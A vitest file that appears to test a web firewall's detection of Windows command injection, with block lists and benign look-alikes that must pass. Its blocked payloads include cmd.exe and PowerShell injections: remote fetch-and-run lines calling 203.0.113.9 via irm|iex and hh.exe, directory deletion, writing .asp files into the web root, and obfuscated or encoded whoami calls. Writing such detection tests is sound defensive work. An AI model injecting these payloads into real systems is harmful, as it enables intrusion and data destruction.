import { describe, expect, test } from 'vitest';
import { policyOf } from '../../../../../benchmarks/traffic/policies.ts';
import { inspect } from '../../index.ts';
import { blocks, passes, passesWritten } from '../../testing/payloads.ts';
import { encodeLatin1, post } from '../../testing/requests.ts';

const commands = [
  '& where /r c:\\ web.config',
  '1 & vol c:',
  '1| query user',
  '"& quser',
  '& query user & rem',
  '1 && driverquery',
  '| getmac /v',
  '1 & route print',
  '& sc query &',
  '& net start & echo',
  '& type con > c:\\x.txt',
  '&echo x>c:\\inetpub\\wwwroot\\a.asp',
  '& rd /s /q c:\\x',
  '&md c:\\x',
  '& takeown /f c:\\x',
  '& pcalua -a calc.exe',
  '& odbcconf /a {regsvr c:\\x.dll}',
  '| hh.exe http://203.0.113.9/x.htm',
  '& esentutl /y \\\\203.0.113.9\\a /d c:\\a',
  '& forfiles /p c:\\windows /c calc',
  '& fsutil volume list',
  '& cm%OS:~0,0%d /c dir',
  '& c%x%md /c dir',
];
const statements = [
  '; start-sleep 9',
  '; gci c:\\',
  '; gwmi win32_process',
  ";&('who'+'ami')",
  "; . 'whoami'",
  '; &(gcm who*i)',
  "; [Diagnostics.Process]::Start('calc')",
  '; Resolve-DnsName x.example.net',
  '; $env:username',
  ";$x='who';$y='ami';&($x+$y)",
  "; 'x'|Out-File c:\\inetpub\\a.asp",
  '; irm http://203.0.113.9/x|iex',
  '; Get-LocalUser administrator',
];
const encoded = [
  '-enc SQBFAFgAIAAoAE4AZQB3AC0A',
  '/e dwBoAG8AYQBtAGkA',
  'x -EncodedCommand "dwBoAG8AYQBtAGkA"',
];

describe('command_injection, commands of Windows', () => {
  blocks('command_injection', [...commands, ...statements, ...encoded]);

  test('statements of PowerShell are found in a comment as well, for nothing there excuses them', () => {
    const policy = policyOf('medium');
    const all = [...statements, ...encoded];
    expect(
      all.filter((text) => {
        const body = `comment=${encodeLatin1(text)}`;
        const verdict = inspect(policy, post('application/x-www-form-urlencoded', body));
        return verdict.decision === 'pass';
      }),
    ).toEqual([]);
  });

  const near = [
    'cut & copy paste',
    'gross & net start at 5',
    'print | type | copy',
    'find & replace "x"',
    '50%off%sale',
    '100%:~ done',
    'more & more C: drives',
    'see; get-well cards & more',
    'cats | get-away weekend',
    'party; test-drive it',
    'cd & vinyl',
    'expand & collapse',
    'x; $19.99 only',
    'a; $x = 5; b',
    'rock & roll; . in the house',
    'foo -e SGVsbG8gd29ybGQ=',
    'how do I use msbuild & devenv',
  ];
  passes(near);
  passesWritten([
    ...near,
    'Steps:\ncopy C:\\a\\b.txt to D:\\',
    'Line one\nmore C:\\Users\\me\\x.txt shows it page by page',
    'Open it.\nStart "C:\\Program Files\\App\\app.exe"',
    'see docs\nklist',
  ]);
});
